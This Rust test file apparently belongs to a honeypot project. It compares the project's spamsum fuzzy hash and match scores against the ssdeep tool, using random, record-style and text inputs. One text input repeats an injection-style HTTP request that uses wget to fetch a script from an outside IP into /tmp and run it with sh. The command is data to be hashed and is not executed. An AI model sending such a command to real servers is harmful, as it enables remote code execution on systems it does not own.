//! The fuzzy hash and the match score against the real `ssdeep` program: random and
//! structured data from empty to several MB, every hash byte for byte, and the scores
//! `ssdeep -d` gives for pairs of related files.

mod common;

use common::{have, skip, TempDir};
use honeytrap::pipeline::analysis::spamsum;
use std::process::Command;

/// A deterministic pseudo-random generator (xorshift), so that failures repeat.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next() as u8).collect()
    }
}

/// Inputs of many sizes and kinds: random, text, runs of one byte, repeated records,
/// an executable of this machine.
fn inputs() -> Vec<(String, Vec<u8>)> {
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut v = Vec::new();
    let sizes = [
        0usize, 1, 2, 6, 7, 8, 63, 64, 65, 191, 192, 193, 383, 384, 385, 1000, 4095, 4096, 6143, 12_289, 65_536,
        200_000, 1_000_000, 3_500_000,
    ];
    for n in sizes {
        v.push((format!("random-{n}"), rng.bytes(n)));
        let text: Vec<u8> =
            b"GET /cgi-bin/;wget http://198.51.100.7/x.sh -O /tmp/x; sh /tmp/x HTTP/1.1\r\nHost: a\r\n\r\n"
                .iter()
                .copied()
                .cycle()
                .take(n)
                .collect();
        v.push((format!("text-{n}"), text));
        v.push((format!("zeros-{n}"), vec![0u8; n]));
        // Random records with a little change each: many trigger points, long hashes.
        let mut rec = Vec::new();
        while rec.len() < n {
            let r = rng.next();
            rec.extend_from_slice(
                format!("user{} logged in from 10.{}.{}.{}\n", r % 97, r >> 8 & 255, r >> 16 & 255, r >> 24 & 255)
                    .as_bytes(),
            );
        }
        rec.truncate(n);
        v.push((format!("records-{n}"), rec));
    }
    for bin in ["/bin/ls", "/usr/bin/ssdeep"] {
        if let Ok(b) = std::fs::read(bin) {
            v.push((bin.trim_start_matches('/').replace('/', "-"), b));
        }
    }
    v
}

#[test]
fn hashes_match_ssdeep() {
    if !have("ssdeep") {
        skip(&common::this_test(), "needs the `ssdeep` command");
        return;
    }
    let dir = TempDir::new("spamsum");
    let inputs = inputs();
    for (name, data) in &inputs {
        std::fs::write(dir.join(name), data).unwrap();
    }
    let out =
        Command::new("ssdeep").arg("-s").arg("-b").args(inputs.iter().map(|(n, _)| dir.join(n))).output().unwrap();
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    let mut checked = 0;
    for line in text.lines().skip(1) {
        let (hash, name) = line.rsplit_once(",\"").unwrap();
        let name = name.trim_end_matches('"');
        let data = &inputs.iter().find(|(n, _)| n == name).unwrap().1;
        assert_eq!(spamsum::hash(data), hash, "{name} ({} bytes)", data.len());
        checked += 1;
    }
    assert_eq!(checked, inputs.len());
}

#[test]
fn scores_match_ssdeep() {
    if !have("ssdeep") {
        skip(&common::this_test(), "needs the `ssdeep` command");
        return;
    }
    let dir = TempDir::new("spamsum-d");
    let mut rng = Rng(7);
    // Pairs: a file and a changed copy (bytes changed, cut, appended, a block moved).
    let mut files = Vec::new();
    for (i, n) in [3000usize, 20_000, 150_000, 700_000].into_iter().enumerate() {
        let base = rng.bytes(n);
        let mut changed = base.clone();
        for _ in 0..(i + 1) * 3 {
            let at = (rng.next() as usize) % n;
            changed[at] ^= 0x55;
        }
        let mut cut = base.clone();
        cut.truncate(n * 3 / 4);
        let mut grown = base.clone();
        grown.extend(rng.bytes(n / 3));
        for (k, d) in [("a", base), ("b", changed), ("c", cut), ("d", grown)] {
            let name = format!("f{i}{k}");
            std::fs::write(dir.join(&name), &d).unwrap();
            files.push((name, d));
        }
    }
    let out = Command::new("ssdeep")
        .arg("-d")
        .arg("-b")
        .arg("-a")
        .args(files.iter().map(|(n, _)| dir.join(n)))
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let mut seen = 0;
    for line in text.lines() {
        // `fXa matches fXb (NN)`
        let Some((pair, score)) = line.rsplit_once(" (") else { continue };
        let Some((x, y)) = pair.split_once(" matches ") else { continue };
        let score: u32 = score.trim_end_matches(')').parse().unwrap();
        let hash = |n: &str| spamsum::hash(&files.iter().find(|(f, _)| f == n).unwrap().1);
        assert_eq!(spamsum::compare(&hash(x), &hash(y)), Some(score), "{x} {y}: {} {}", hash(x), hash(y));
        seen += 1;
    }
    assert!(seen >= 16, "{text}");
}
